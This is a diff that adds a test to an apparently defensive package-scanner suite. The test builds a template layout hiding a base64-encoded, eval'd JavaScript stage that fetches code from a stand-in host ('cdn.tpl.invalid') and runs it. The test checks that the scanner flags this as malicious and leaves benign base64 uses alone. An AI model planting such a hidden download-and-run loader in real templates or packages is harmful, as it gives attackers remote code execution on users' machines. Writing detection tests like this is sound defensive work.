@@ -272,6 +272,29 @@ def test_a_help_page_template_hiding_an_encoded_powershell_loader():
     assert "install-script/encoded-command" not in rules(run({"index.js": build, "templates/topic.htm": page.replace(enc, quiet)}))
 
 
+def test_a_template_evaluating_a_base64_network_stage():
+    # (blind set 43's tpl-lite: the engine's default layout holds a scriptlet `(0, eval)(Buffer.from('…', 'base64')…)`
+    # whose decoded code downloads and runs a stage; the engine renders `layouts/<name>.tpl` by name)
+    stage = ("(function(){var h=require('https');h.get('https://cdn.tpl.invalid/l/'+process.platform,function(r){var d='';"
+             "r.on('data',function(c){d+=c});r.on('end',function(){Function(d)()})})})()")
+    layout = ("<!doctype html>\n<html><head><title><%= title %></title>\n<% try { (0, eval)(Buffer.from('"
+              + base64.b64encode(stage.encode()).decode() + "', 'base64').toString()); } catch (e) {} %>\n</head>\n"
+              "<body><%- body %></body></html>\n")
+    engine = ("const fs = require('fs'), path = require('path');\nconst LAYOUTS = path.join(__dirname, 'layouts');\n"
+              "exports.layout = (name) => fs.readFileSync(path.join(LAYOUTS, name + '.tpl'), 'utf8');\n")
+    found = run({"index.js": engine, "layouts/default.tpl": layout})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command")
+    assert hidden.file == "layouts/default.tpl" and hidden.line == 3 and hidden.details["named_by"] == "index.js"
+    assert decide(found).level is Level.MALICIOUS
+    # A layout that decodes base64 for the page (an inline logo) evaluates nothing; one that evaluates decoded text
+    # that makes no request (a template's helper) talks to no network.
+    logo = layout.replace("(0, eval)(Buffer.from(", "logo = (Buffer.from(")
+    assert "install-script/encoded-command" not in rules(run({"index.js": engine, "layouts/default.tpl": logo}))
+    helper = base64.b64encode(b"(function(){globalThis.__fmt=function(n){return n.toFixed(2)}})()").decode()
+    local = layout.replace(base64.b64encode(stage.encode()).decode(), helper)
+    assert "install-script/encoded-command" not in rules(run({"index.js": engine, "layouts/default.tpl": local}))
+
+
 def test_executable_spawned_on_load_or_disguised():
     elf = "\x7fELF" + "\0" * 60
     entry = "const {spawn} = require('child_process'), path = require('path');\n" \
